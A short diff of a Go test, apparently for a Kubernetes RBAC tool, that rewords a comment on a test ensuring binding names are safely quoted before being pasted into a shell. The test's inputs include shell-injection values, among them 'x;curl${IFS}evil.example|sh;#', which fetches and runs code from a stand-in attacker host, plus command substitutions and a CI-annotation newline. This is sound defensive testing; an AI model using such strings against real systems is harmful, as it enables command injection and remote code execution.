@@ -38,7 +38,7 @@ func TestARoleIsNotHiddenByANameOfKubernetes(t *testing.T) {
 	}
 }
 
-// TestANameOfABindingIsNoCommand pastes the remedy of a binding into a shell: names of Roles and bindings may contain anything but / and %.
+// TestANameOfABindingIsNoCommand pastes the remedy of a binding into a shell: names of bindings may contain all but / and %.
 func TestANameOfABindingIsNoCommand(t *testing.T) {
 	for _, name := range []string{"x;curl${IFS}evil.example|sh;#", "$(>pwned)", "`>pwned`", "a b", "it's", "x\n::error::y", "-A", "\u202ex"} {
 		quoted, err := json.Marshal(name)
